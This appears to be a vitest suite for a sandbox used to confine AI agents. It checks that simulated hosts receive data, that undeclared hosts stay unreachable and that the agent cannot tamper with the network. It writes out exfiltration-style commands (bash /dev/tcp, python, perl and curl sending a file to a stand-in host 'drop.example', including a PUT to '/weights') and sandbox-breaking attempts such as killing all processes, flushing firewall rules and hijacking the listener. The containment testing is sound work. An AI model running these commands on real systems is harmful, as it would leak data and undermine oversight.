import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import { text as readText } from 'node:stream/consumers';
import { finished } from 'node:stream/promises';
import { setTimeout as sleep } from 'node:timers/promises';

import { expect, it } from 'vitest';

import { readAsData, toUntrusted } from '../base/untrusted-text.ts';
import type {
  HostConnection,
  OpenSandboxOptions,
  RunOptions,
  Sandbox,
  SandboxHost,
  SandboxProvider,
} from './contract.ts';

interface HostsSuiteOptions {
  readonly provider: SandboxProvider;
  readonly open: (change: Partial<OpenSandboxOptions>) => Promise<Sandbox>;
}

const ordinary: RunOptions = { timeoutMs: 20_000, outputBytesMax: 10_000, signal: new AbortController().signal };
const SIZE = 1_000_000;
/** Creates a file of `SIZE` random bytes. */
const MAKE_PAYLOAD = `head -c ${SIZE} /dev/urandom > payload`;
const MIB = 1024 * 1024;

const clients: readonly { readonly name: string; readonly needs?: string; readonly command: string }[] = [
  { name: 'bash', command: 'exec 3<>/dev/tcp/drop.example/8443; cat payload >&3; cat <&3' },
  {
    name: 'python3',
    needs: 'python3',
    command: `python3 -c 'import socket; s = socket.create_connection(("drop.example", 8443)); s.sendall(open("payload", "rb").read()); s.shutdown(socket.SHUT_WR); print(s.makefile().read(), end="")'`,
  },
  {
    name: 'perl',
    needs: 'perl',
    command: `perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new("drop.example:8443") or die; open my $f, "<", "payload"; local $/; print {$s} readline $f; $s->shutdown(1); print <$s>'`,
  },
];

/** The promises about hosts of every adapter with `can.hosts`. */
export function describeHosts({ provider, open }: HostsSuiteOptions): void {
  const host = (connect: SandboxHost['connect'], change: Partial<SandboxHost> = {}): SandboxHost => ({
    name: 'drop.example',
    address: '10.20.0.7',
    port: 8443,
    connect,
    ...change,
  });
  const say = async (sandbox: Sandbox, command: string): Promise<string> =>
    readAsData((await sandbox.run(toUntrusted(command), ordinary)).stdout);
  const complain = async (sandbox: Sandbox, command: string): Promise<string> =>
    readAsData((await sandbox.run(toUntrusted(command), ordinary)).stderr);
  const has = async (sandbox: Sandbox, program: string): Promise<boolean> =>
    (await say(sandbox, `command -v ${program}`)) !== '';
  /** Reads `size` bytes, or to the end, and replies with their hash. */
  const answerWithHash =
    (size: number) =>
    async ({ stream }: HostConnection): Promise<void> => {
      const hash = createHash('sha256');
      let bytes = 0;
      stream.on('data', (block: Buffer) => {
        hash.update(block);
        bytes += block.length;
        if (bytes >= size) stream.end(`${hash.digest('hex')}\n`);
      });
      await finished(stream, { readable: false });
    };
  const it_ = provider.can.hosts ? it : it.skip;

  it.skipIf(provider.can.hosts)('refuses hosts if it does not support them', async () => {
    const nothing = async (): Promise<void> => undefined;
    for (const change of [{ hosts: [host(nothing)] }, { refusedHosts: [{ name: 'a.example', address: '10.20.0.9' }] }])
      await expect(open(change)).rejects.toMatchObject({ name: 'SandboxError', code: 'unavailable' });
  });

  it_('refuses an invalid host, and leaves nothing behind', async () => {
    const nothing = async (): Promise<void> => undefined;
    for (const change of [{ address: '127.0.0.1' }, { address: 'drop' }, { name: 'two words' }, { port: 0 }])
      await expect(open({ hosts: [host(nothing, change)] })).rejects.toMatchObject({ code: 'open-failed' });
    await expect(open({ hosts: [host(nothing), host(nothing)] })).rejects.toMatchObject({ code: 'open-failed' });
  });

  it_.for(clients)(
    'passes what $name sends to a host byte for byte, and returns the answer',
    async (client, { skip }) => {
      await using sandbox = await open({ hosts: [host(answerWithHash(SIZE))] });
      if (client.needs !== undefined && !(await has(sandbox, client.needs)))
        skip(`not run: ${client.needs} is not installed`);
      await say(sandbox, MAKE_PAYLOAD);
      const [sha256 = ''] = (await say(sandbox, 'sha256sum payload')).split(' ');
      expect(await say(sandbox, client.command)).toBe(`${sha256}\n`);
    },
  );

  it_('serves curl with a Node.js HTTP server', async ({ skip }) => {
    const seen: string[] = [];
    const server = createServer((request, response) => {
      const hash = createHash('sha256');
      request.on('data', (block: Buffer) => hash.update(block));
      request.on('end', () => {
        seen.push(`${request.method ?? ''} ${request.url ?? ''} ${hash.digest('hex')}`);
        response.end('stored\n');
      });
    });
    const connect = async ({ stream }: HostConnection): Promise<void> => {
      server.emit('connection', stream);
      await finished(stream).catch(() => undefined);
    };
    await using sandbox = await open({ hosts: [host(connect)] });
    if (!(await has(sandbox, 'curl'))) skip('not run: curl is not installed');
    await say(sandbox, MAKE_PAYLOAD);
    const [sha256 = ''] = (await say(sandbox, 'sha256sum payload')).split(' ');
    expect(await say(sandbox, 'curl -sS -m 10 -T payload http://drop.example:8443/weights')).toBe('stored\n');
    expect(seen).toEqual([`PUT /weights ${sha256}`]);
  });

  it_('distinguishes hosts by address and by port', async () => {
    const greet = ({ stream, host: name, port }: HostConnection): Promise<void> =>
      Promise.resolve(void stream.end(`${name} ${port}\n`));
    await using sandbox = await open({
      hosts: [
        host(greet),
        host(greet, { port: 443 }),
        host(greet, { name: 'other.example', address: '10.20.0.8' }),
        host(greet, { name: 'six.example', address: 'fd00:20::7' }),
      ],
    });
    const places = ['drop.example/8443', '10.20.0.7/443', 'other.example/8443', 'six.example/8443'];
    expect(await say(sandbox, places.map((place) => `cat < /dev/tcp/${place}`).join('; '))).toBe(
      'drop.example 8443\ndrop.example 443\nother.example 8443\nsix.example 8443\n',
    );
  });

  it_('gives two machines different hosts at the same address', async () => {
    const named = (name: string): SandboxHost => host(({ stream }) => Promise.resolve(void stream.end(`${name}\n`)));
    const [first, second] = await Promise.all(['first', 'second'].map((name) => open({ hosts: [named(name)] })));
    if (first === undefined || second === undefined) throw new Error('two were asked for');
    await using one = first;
    await using other = second;
    const both = [one, other].map((sandbox) => say(sandbox, 'cat < /dev/tcp/drop.example/8443'));
    expect(await Promise.all(both)).toEqual(['first\n', 'second\n']);
  });

  it_('serves two connections at once', async () => {
    const both = Promise.withResolvers<void>();
    let open_ = 0;
    const connect = async ({ stream }: HostConnection): Promise<void> => {
      if (++open_ === 2) both.resolve();
      await both.promise;
      stream.end('both\n');
    };
    await using sandbox = await open({ hosts: [host(connect)] });
    expect(await say(sandbox, 'for i in 1 2; do cat < /dev/tcp/10.20.0.7/8443 & done; wait')).toBe('both\nboth\n');
  });

  it_('ends the stream of an upload that is abandoned or reset, and continues', async () => {
    const taken: Promise<string>[] = [];
    const connect = async ({ stream }: HostConnection): Promise<void> => {
      const all = readText(stream);
      taken.push(all.catch(() => 'reset'));
      await all;
    };
    await using sandbox = await open({ hosts: [host(connect)] });
    await say(sandbox, '(exec 3>/dev/tcp/10.20.0.7/8443; printf half >&3; exec sleep 30) & sleep 0.3; kill -9 $!');
    await expect.poll(() => taken.length).toBe(1);
    expect(await taken[0]).toBe('half');
    const reset = `perl -MSocket -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new("10.20.0.7:8443"); setsockopt $s, SOL_SOCKET, SO_LINGER, pack "II", 1, 0; syswrite $s, "x"; select undef, undef, undef, 0.2'`;
    if (await has(sandbox, 'perl')) {
      await say(sandbox, reset);
      expect(await taken[1]).toBe('reset');
    }
    expect(await say(sandbox, 'echo on')).toBe('on\n');
  });

  it_('cannot reach an undeclared host', async () => {
    await using sandbox = await open({ hosts: [host(async ({ stream }) => void stream.end('here\n'))] });
    for (const place of ['10.20.0.7/8444', '10.20.0.8/8443', 'other.example/8443'])
      expect(await complain(sandbox, `timeout 5 bash -c 'cat < /dev/tcp/${place}'`)).toMatch(
        /Connection refused|Network is unreachable|Name or service not known|Temporary failure|nodename/,
      );
  });

  it_('refuses connections to a refused host at once', async () => {
    await using sandbox = await open({ refusedHosts: [{ name: 'mirror.example', address: '10.20.0.9' }] });
    for (const port of [22, 443, 8443])
      expect(await complain(sandbox, `cat < /dev/tcp/mirror.example/${port}`)).toContain('Connection refused');
  });

  it_('has no process inside that the agent could see or signal, and no listener that it could remove', async () => {
    await using sandbox = await open({ hosts: [host(async ({ stream }) => void stream.end('still\n'))] });
    expect(await say(sandbox, 'cat /proc/[0-9]*/comm | sort -u | tr "\\n" " "')).toMatch(
      /^(bash |cat |sort |tr |sh |setpriv )+$/,
    );
    await say(sandbox, 'kill -9 -1');
    await say(sandbox, 'ip addr flush dev lo; ip link set lo down; nft flush ruleset');
    const steal = `perl -MIO::Socket::INET -e 'for my $a ("0.0.0.0", "10.20.0.7") { print IO::Socket::INET->new(LocalAddr => $a, LocalPort => 8443, Listen => 1, ReuseAddr => 1) ? "stolen" : "taken", "\\n" }'`;
    if (await has(sandbox, 'perl')) expect(await say(sandbox, steal)).toBe('taken\ntaken\n');
    expect(await say(sandbox, 'cat < /dev/tcp/10.20.0.7/8443')).toBe('still\n');
  });

  it_('serves 64 connections of one host at a time and closes a further one', async () => {
    let open_ = 0;
    const connect = async ({ stream }: HostConnection): Promise<void> => {
      open_++;
      stream.resume();
      await finished(stream, { writable: false });
    };
    await using sandbox = await open({ hosts: [host(connect)] });
    const flood = 'for i in {1..70}; do exec {fd}<>/dev/tcp/10.20.0.7/8443; done; sleep 1';
    await say(sandbox, flood);
    expect(open_).toBe(64);
  });

  it_('delivers the bytes sent before a kill, then ends', async () => {
    const [begun, taken] = [Promise.withResolvers<void>(), Promise.withResolvers<string>()];
    const connect = async ({ stream }: HostConnection): Promise<void> => {
      begun.resolve();
      await sleep(200);
      taken.resolve(await readText(stream));
    };
    await using sandbox = await open({ hosts: [host(connect)] });
    await say(sandbox, '(echo last > /dev/tcp/10.20.0.7/8443; exec 3>/dev/tcp/10.20.0.7/8443; sleep 30) & sleep 0.1');
    await begun.promise;
    expect(await sandbox.kill()).toMatchObject({ survivors: 0 });
    expect(await taken.promise).toBe('last\n');
  });

  it_('is lost if a handler fails, and reports it', async () => {
    const connect = async (): Promise<void> => {
      throw new Error('the handler failed');
    };
    await using sandbox = await open({ hosts: [host(connect)] });
    const failed = async (): Promise<unknown> => {
      for (let attempt = 0; attempt < 100; attempt++) await say(sandbox, 'cat < /dev/tcp/10.20.0.7/8443; sleep 0.05');
      return undefined;
    };
    await expect(failed()).rejects.toMatchObject({ name: 'SandboxError', code: 'lost' });
  });

  it_('applies backpressure to a fast sender, and keeps memory flat over 256 MiB', async () => {
    let bytes = 0;
    let held = 0;
    let peak = 0;
    const connect = async ({ stream }: HostConnection): Promise<void> => {
      await sleep(300);
      held = stream.readableLength;
      for await (const block of stream as AsyncIterable<Buffer>) {
        bytes += block.length;
        peak = Math.max(peak, process.memoryUsage.rss());
      }
      stream.end();
    };
    await using sandbox = await open({ hosts: [host(connect)] });
    const before = process.memoryUsage.rss();
    await say(sandbox, `head -c ${256 * MIB} /dev/zero > /dev/tcp/10.20.0.7/8443`);
    await expect.poll(() => bytes, { timeout: 120_000 }).toBe(256 * MIB);
    expect(held).toBeLessThan(MIB);
    expect(peak - before).toBeLessThan(128 * MIB);
  });

  it.skipIf(!provider.can.hosts || !provider.can.network)('does not record a delivery as an attempt', async () => {
    const taken: string[] = [];
    const connect = async ({ stream }: HostConnection): Promise<void> => void taken.push(await readText(stream));
    await using sandbox = await open({
      network: 'recorded',
      hosts: [host(connect), host(connect, { name: 'six.example', address: 'fd00:20::7' })],
      refusedHosts: [
        { name: 'mirror.example', address: '10.20.0.9' },
        { name: 'mirror6.example', address: 'fd00:20::9' },
      ],
    });
    await say(sandbox, 'for name in drop six; do echo $name > /dev/tcp/$name.example/8443; done');
    await expect.poll(() => taken.toSorted()).toEqual(['drop\n', 'six\n']);
    expect((await sandbox.readNetwork()).attempts).toEqual([]);
    for (const name of ['mirror', 'mirror6'])
      expect(await complain(sandbox, `echo no > /dev/tcp/${name}.example/443`)).toContain('Connection refused');
    await say(sandbox, 'echo port > /dev/tcp/10.20.0.7/8444; echo place > /dev/tcp/10.20.0.8/8443');
    expect((await sandbox.readNetwork()).attempts).toMatchObject([
      { protocol: 'tcp', address: '10.20.0.9', port: 443, bytes: 0 },
      { protocol: 'tcp', address: 'fd00:20::9', port: 443, bytes: 0 },
      { protocol: 'tcp', address: '10.20.0.7', port: 8444, firstBytes: 'port\n' },
      { protocol: 'tcp', address: '10.20.0.8', port: 8443, firstBytes: 'place\n' },
    ]);
  });
}
